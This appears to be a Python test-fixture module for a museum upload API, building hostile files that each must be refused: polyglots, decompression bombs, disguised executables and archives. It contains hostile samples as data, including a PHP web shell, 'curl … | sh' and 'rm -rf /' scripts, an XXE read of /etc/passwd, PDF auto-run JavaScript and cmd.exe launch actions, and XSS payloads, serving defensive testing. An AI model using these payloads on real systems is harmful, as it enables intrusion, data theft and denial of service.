"""Hostile uploads, built in code: every one must be refused with its code, and nothing stored.

Self-contained, for reuse by the upload API's tests:

    for case in HOSTILE:
        send case.content() as case.filename, with the upload limit set to MAX_BYTES; expect a 4xx and case.code.

`build` is either the bytes themselves or a function of the fixtures folder (tests/fixtures) returning them.
"""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
MAX_BYTES = 300_000  # the size limit these cases are made for (the oversize case is one byte over)


@dataclass(frozen=True)
class HostileCase:
    name: str
    filename: str
    build: Callable[[Path], bytes] | bytes
    code: str

    def content(self, fixtures: Path = FIXTURES) -> bytes:
        """The file's bytes."""
        return self.build(fixtures) if callable(self.build) else self.build


def media(name: str) -> Callable[[Path], bytes]:
    """A builder returning one of the accepted fixtures of tests/fixtures/media/."""
    return lambda fixtures: (fixtures / "media" / name).read_bytes()


def _then(name: str, suffix: bytes | Callable[[], bytes]) -> Callable[[Path], bytes]:
    """A fixture with something appended after its end."""
    return lambda fixtures: media(name)(fixtures) + (suffix() if callable(suffix) else suffix)


def _past_head(build: Callable[[Path], bytes], suffix: bytes) -> Callable[[Path], bytes]:
    """`suffix` after the end of a file made larger than the first bytes searched for markup (8 KB)."""
    return lambda fixtures: build(fixtures) + suffix


def _big_png(fixtures: Path) -> bytes:
    """The fixture PNG with a 10 KB private chunk inside: still a valid PNG."""
    return _png_insert(_png_chunk(b"prVt", b"\x00" * 10_000))(fixtures)


def _cut(name: str, keep: float) -> Callable[[Path], bytes]:
    return lambda fixtures: (data := media(name)(fixtures))[: int(len(data) * keep)]


def zip_archive() -> bytes:
    """A real ZIP holding a web page."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", "<html><script>alert(document.cookie)</script></html>")
    return out.getvalue()


def padded_jpeg(fixtures: Path, size: int) -> bytes:
    """A valid JPEG of exactly `size` bytes: the fixture photo with comment segments inserted after SOI."""
    photo = media("photo.jpg")(fixtures)
    padding, missing = b"", size - len(photo)
    while missing > 0:
        body = min(missing - 4, 65_533)
        if body < 0:
            raise ValueError("cannot pad by fewer than 4 bytes")
        padding, missing = padding + b"\xff\xfe" + struct.pack(">H", body + 2) + b" " * body, missing - body - 4
    return photo[:2] + padding + photo[2:]


def _jpeg_comment(text: bytes) -> Callable[[Path], bytes]:
    return lambda fixtures: (
        (photo := media("photo.jpg")(fixtures))[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + photo[2:]
    )


def _jpeg_size(width: int, height: int) -> Callable[[Path], bytes]:
    """The fixture JPEG with its frame header declaring another size."""

    def build(fixtures: Path) -> bytes:
        photo = bytearray(media("photo.jpg")(fixtures))
        sof = photo.index(b"\xff\xc0")
        photo[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
        return bytes(photo)

    return build


def _jpeg_bad_huffman(fixtures: Path) -> bytes:
    """The fixture JPEG whose first Huffman table claims 16 × 255 codes (at most 256 exist)."""
    photo = bytearray(media("photo.jpg")(fixtures))
    table = photo.index(b"\xff\xc4")
    photo[table + 5 : table + 21] = b"\xff" * 16
    return bytes(photo)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_insert(chunk: bytes) -> Callable[[Path], bytes]:
    """The fixture PNG with a chunk inserted after IHDR."""
    return lambda fixtures: (png := media("photo.png")(fixtures))[:33] + chunk + png[33:]


def _png_bad_crc(fixtures: Path) -> bytes:
    png = bytearray(media("photo.png")(fixtures))
    idat = png.index(b"IDAT")
    png[idat + 4 + struct.unpack(">I", png[idat - 4 : idat])[0]] ^= 0xFF
    return bytes(png)


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid 1-bit black PNG of width × height pixels (20000 × 20000: 400 Mpx in about 50 KB)."""
    packer, row, idat = zlib.compressobj(9), b"\x00" * (1 + (width + 7) // 8), []
    for _ in range(height):
        idat.append(packer.compress(row))
    idat.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(idat))
        + _png_chunk(b"IEND", b"")
    )


def tiff_bomb() -> bytes:
    """A little-endian TIFF whose tags declare 100,000 × 100,000 grey pixels in a 1-byte strip."""
    tags = [
        (256, 4, 100_000),
        (257, 4, 100_000),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8 + 2 + 10 * 12 + 4),
        (277, 3, 1),
        (278, 4, 100_000),
        (279, 4, 1),
    ]
    ifd = struct.pack("<H", len(tags)) + b"".join(
        struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags
    )
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * (4 + 12) + b"\x00"


def _webp_canvas(width: int, height: int) -> Callable[[Path], bytes]:
    """The fixture WebP wrapped in an extended header declaring a much larger canvas."""

    def build(fixtures: Path) -> bytes:
        inner = media("photo.webp")(fixtures)[12:]
        vp8x = (
            b"VP8X"
            + struct.pack("<I", 10)
            + b"\x00" * 4
            + (width - 1).to_bytes(3, "little")
            + (height - 1).to_bytes(3, "little")
        )
        body = b"WEBP" + vp8x + inner
        return b"RIFF" + struct.pack("<I", len(body)) + body

    return build


def wav_header_only() -> bytes:
    """A WAV with its format and an empty data chunk: no sound at all."""
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", 0)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _iso_brands(major: bytes, *compatible: bytes) -> bytes:
    """An ISO media `ftyp` box with these brands, then a little more data."""
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + struct.pack(">I", 16) + b"free" + b"\x00" * 8


def _mp4_garbage(fixtures: Path) -> bytes:
    video = media("video.mp4")(fixtures)
    return video[: struct.unpack(">I", video[:4])[0]] + random.Random(7).randbytes(3000)


def _matroska() -> bytes:
    """An EBML header naming a Matroska (MKV) document, and an empty segment."""
    doc_type = b"\x42\x82\x88matroska"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(doc_type)]) + doc_type + b"\x18\x53\x80\x67\x80"


def _webm_header_only(fixtures: Path) -> bytes:
    webm = media("video.webm")(fixtures)
    return webm[: webm.index(b"\x18\x53\x80\x67")] + b"\x18\x53\x80\x67\x80"


def _ogg_theora(fixtures: Path) -> bytes:
    return media("sound.ogg")(fixtures).replace(b"\x01vorbis", b"\x80theora", 1)


def _picture(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, fmt)
    return out.getvalue()


def _tar() -> bytes:
    out, data = io.BytesIO(), b"#!/bin/sh\nrm -rf /\n"
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("install.sh")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def pdf(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = (), trailer: bytes = b"") -> bytes:
    """A one-page PDF written by hand (correct cross-reference table) with extra entries where asked."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b">>",
        *extra,
    ]
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


_EMBEDDED = (
    b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
)
_ENCRYPT = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>" % (b"00" * 32, b"00" * 32)
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
_HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin')</script></body></html>"
_PHP = b"<?php system($_GET['c']); ?>"

HOSTILE = [
    # Nothing, too little, too much.
    HostileCase("empty", "photo.jpg", b"", "empty"),
    HostileCase("nul_bytes_only", "photo.jpg", b"\x00" * 4096, "empty"),
    HostileCase("one_byte", "photo.jpg", b"\xff", "unsupported_type"),
    HostileCase("oversize_by_one_byte", "photo.jpg", lambda f: padded_jpeg(f, MAX_BYTES + 1), "too_large"),
    # Scripts, pages and drawings, whatever their name.
    HostileCase("svg_with_script", "drawing.svg", _SVG, "unsupported_type"),
    HostileCase("svg_named_png", "drawing.png", _SVG, "unsupported_type"),
    HostileCase("svg_named_jpg", "drawing.jpg", b'<?xml version="1.0"?>\n' + _SVG, "unsupported_type"),
    HostileCase("html_named_jpg", "photo.jpg", _HTML, "unsupported_type"),
    HostileCase(
        "xhtml",
        "page.xhtml",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>',
        "unsupported_type",
    ),
    HostileCase(
        "xml_entities",
        "data.xml",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "unsupported_type",
    ),
    HostileCase(
        "utf16_bom_html",
        "photo.jpg",
        "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le"),
        "unsupported_type",
    ),
    HostileCase("utf8_bom_html", "photo.png", b"\xef\xbb\xbf" + _HTML, "unsupported_type"),
    HostileCase("javascript", "app.js", b"fetch('/api').then(r => r.json()).then(console.log);\n", "unsupported_type"),
    HostileCase("php", "shell.php", _PHP, "unsupported_type"),
    HostileCase("php_named_jpg", "avatar.jpg", b"GIF89a" + _PHP, "unsupported_type"),
    HostileCase("shell_script", "install.sh", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "unsupported_type"),
    HostileCase("python", "tool.py", b"import os\nos.system('rm -rf /')\n", "unsupported_type"),
    HostileCase("text_named_mp3", "interview.mp3", b"This is not a recording, only words.\n" * 20, "unsupported_type"),
    # Programs and archives.
    HostileCase(
        "windows_exe", "photo.jpg", b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200, "unsupported_type"
    ),
    HostileCase("linux_elf", "sound.mp3", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "unsupported_type"),
    HostileCase("zip", "photos.zip", zip_archive(), "unsupported_type"),
    HostileCase("zip_named_pdf", "report.pdf", zip_archive(), "unsupported_type"),
    HostileCase("gzip", "photo.jpg.gz", gzip.compress(b"<html></html>" * 50, mtime=0), "unsupported_type"),
    HostileCase("tar", "photos.tar", _tar(), "unsupported_type"),
    HostileCase("7z_header", "photos.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100, "unsupported_type"),
    HostileCase("rar_header", "photos.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "unsupported_type"),
    HostileCase("bzip2", "photo.bz2", b"BZh91AY&SY" + b"\x00" * 100, "unsupported_type"),
    HostileCase("office_ole", "letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "unsupported_type"),
    HostileCase("random_bytes", "photo.jpg", random.Random(1).randbytes(2048), "unsupported_type"),
    # Formats the museum does not keep (GIF and BMP: few colours or no compression, and frequent disguises).
    HostileCase("gif", "photo.gif", _picture("GIF"), "unsupported_type"),
    HostileCase("bmp", "photo.bmp", _picture("BMP"), "unsupported_type"),
    HostileCase("gifar", "photo.gif", _picture("GIF") + zip_archive(), "unsupported_type"),
    HostileCase("matroska_mkv", "film.mkv", _matroska(), "unsupported_type"),
    HostileCase("quicktime_mov", "film.mov", _iso_brands(b"qt  ", b"qt  "), "unsupported_type"),
    HostileCase("avif", "photo.avif", _iso_brands(b"avif", b"mif1", b"miaf"), "unsupported_type"),
    HostileCase("ogg_theora", "film.ogg", _ogg_theora, "unsupported_type"),
    HostileCase("iso_unknown_brand", "film.mp4", _iso_brands(b"f4v ", b"f4v "), "unsupported_type"),
    # Polyglots: an accepted file that is also something else.
    HostileCase("jpeg_then_zip", "photo.jpg", _then("photo.jpg", zip_archive), "polyglot"),
    HostileCase("jpeg_then_php", "photo.jpg", _then("photo.jpg", _PHP), "polyglot"),
    HostileCase("big_jpeg_then_php", "photo.jpg", _past_head(lambda f: padded_jpeg(f, 20_000), _PHP), "polyglot"),
    HostileCase(
        "big_jpeg_then_jpeg_then_html",
        "photo.jpg",
        lambda f: padded_jpeg(f, 9000) + media("photo.jpg")(f) + _HTML,
        "polyglot",
    ),
    HostileCase("jpeg_script_in_comment", "photo.jpg", _jpeg_comment(b"<script>alert(1)</script>"), "polyglot"),
    HostileCase("png_then_html", "photo.png", _then("photo.png", _HTML), "polyglot"),
    HostileCase("big_png_then_html", "photo.png", _past_head(_big_png, _HTML), "polyglot"),
    HostileCase("png_then_zip", "photo.png", _then("photo.png", zip_archive), "polyglot"),
    HostileCase(
        "png_html_in_text_chunk", "photo.png", _png_insert(_png_chunk(b"tEXt", b"Comment\x00<html>")), "polyglot"
    ),
    HostileCase("png_then_big_blob", "photo.png", _then("photo.png", b"\x01" * 10_000), "polyglot"),
    HostileCase("pdf_then_zip", "plan.pdf", lambda f: pdf() + zip_archive(), "polyglot"),
    HostileCase("pdf_then_html", "plan.pdf", lambda f: pdf() + _HTML, "polyglot"),
    HostileCase(
        "big_pdf_then_html", "plan.pdf", lambda f: pdf(page=b"/Pad (" + b"x" * 9000 + b") ") + _HTML, "polyglot"
    ),
    HostileCase("mp3_then_zip", "song.mp3", _then("sound.mp3", zip_archive), "polyglot"),
    HostileCase("wav_then_html", "voice.wav", _then("sound.wav", _HTML), "polyglot"),
    HostileCase("mp4_then_zip", "film.mp4", _then("video.mp4", zip_archive), "polyglot"),
    HostileCase("mp4_then_html", "film.mp4", _then("video.mp4", b"\n" * 5000 + _HTML), "polyglot"),
    HostileCase("ogg_then_php", "voice.ogg", _then("sound.ogg", _PHP), "polyglot"),
    HostileCase("flac_then_zip", "voice.flac", _then("sound.flac", zip_archive), "polyglot"),
    HostileCase("heic_then_html", "photo.heic", _then("photo.heic", b"\n" * 8000 + _HTML), "polyglot"),
    HostileCase("webm_then_script", "film.webm", _then("video.webm", b"<script>alert(1)</script>"), "polyglot"),
    # PDFs that act on their own, or cannot be checked.
    HostileCase(
        "pdf_javascript", "plan.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "), "active_content"
    ),
    HostileCase(
        "pdf_javascript_escaped_names",
        "plan.pdf",
        pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >> "),
        "active_content",
    ),
    HostileCase("pdf_launch", "plan.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> "), "active_content"),
    HostileCase(
        "pdf_embedded_file",
        "plan.pdf",
        pdf(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> ", extra=_EMBEDDED),
        "active_content",
    ),
    HostileCase(
        "pdf_page_open_script",
        "plan.pdf",
        pdf(page=b"/AA << /O << /S /J#61vaScript /J#53 (x) >> >> "),
        "active_content",
    ),
    HostileCase(
        "pdf_script_in_names_tree", "plan.pdf", pdf(b"/Names << /J#61vaScript << /Names [] >> >> "), "active_content"
    ),
    HostileCase(
        "pdf_xfa_form",
        "form.pdf",
        pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >> ", extra=(b"<< /Length 7 >>\nstream\n<xdp/>\nendstream",)),
        "active_content",
    ),
    HostileCase(
        "pdf_submit_form",
        "form.pdf",
        pdf(page=b"/AA << /C << /S /SubmitForm /F (http://x.invalid) >> >> "),
        "active_content",
    ),
    HostileCase(
        "pdf_encrypted", "plan.pdf", pdf(extra=(_ENCRYPT,), trailer=b"/Encrypt 4 0 R /ID [<00> <00>] "), "encrypted"
    ),
    HostileCase("pdf_truncated", "plan.pdf", lambda f: pdf()[:-80], "corrupt"),
    HostileCase(
        "pdf_without_pages", "plan.pdf", pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"), "corrupt"
    ),
    # Damaged files.
    HostileCase(
        "jpeg_truncated", "photo.jpg", lambda f: (f / "images" / "canon_hdr_NO.jpg").read_bytes()[:20_000], "corrupt"
    ),
    HostileCase("jpeg_bad_huffman_table", "photo.jpg", _jpeg_bad_huffman, "corrupt"),
    HostileCase("png_truncated", "photo.png", _cut("photo.png", 0.7), "corrupt"),
    HostileCase("png_bad_crc", "photo.png", _png_bad_crc, "corrupt"),
    HostileCase("heic_truncated", "photo.heic", _cut("photo.heic", 0.6), "corrupt"),
    HostileCase("tiff_header_only", "scan.tif", b"II*\x00" + struct.pack("<I", 4000), "corrupt"),
    HostileCase("mp4_garbage_after_ftyp", "film.mp4", _mp4_garbage, "corrupt"),
    HostileCase("mp4_truncated", "film.mp4", _cut("video.mp4", 0.5), "corrupt"),
    HostileCase("wav_truncated", "voice.wav", _cut("sound.wav", 0.5), "corrupt"),
    HostileCase(
        "mp3_id3_then_garbage",
        "song.mp3",
        b"ID3\x04\x00\x00\x00\x00\x00\x00" + random.Random(3).randbytes(4000),
        "corrupt",
    ),
    HostileCase("ogg_truncated", "voice.ogg", _cut("sound.ogg", 0.5), "corrupt"),
    HostileCase("webm_header_only", "film.webm", _webm_header_only, "corrupt"),
    HostileCase("wav_header_only", "voice.wav", wav_header_only(), "empty"),
    # Decompression bombs: refused from the header, before any pixel is decoded.
    HostileCase("png_bomb_20000x20000", "photo.png", lambda f: png_bomb(), "too_many_pixels"),
    HostileCase("jpeg_declaring_65000x65000", "photo.jpg", _jpeg_size(65_000, 65_000), "too_many_pixels"),
    HostileCase("tiff_bomb", "scan.tif", tiff_bomb(), "too_many_pixels"),
    HostileCase("webp_canvas_lie", "photo.webp", _webp_canvas(16_384, 16_384), "too_many_pixels"),
    # Accepted contents under another type's name.
    HostileCase("mp3_named_png", "photo.png", media("sound.mp3"), "extension_mismatch"),
    HostileCase("png_named_jpg", "photo.jpg", media("photo.png"), "extension_mismatch"),
    HostileCase("jpeg_named_mp3", "song.mp3", media("photo.jpg"), "extension_mismatch"),
    HostileCase("pdf_named_jpg", "photo.jpg", lambda f: pdf(), "extension_mismatch"),
    HostileCase("heic_named_jpg", "IMG_0001.JPG", media("photo.heic"), "extension_mismatch"),
    HostileCase("webm_named_mp4", "film.mp4", media("video.webm"), "extension_mismatch"),
    HostileCase("wav_named_svg", "voice.svg", media("sound.wav"), "extension_mismatch"),
]
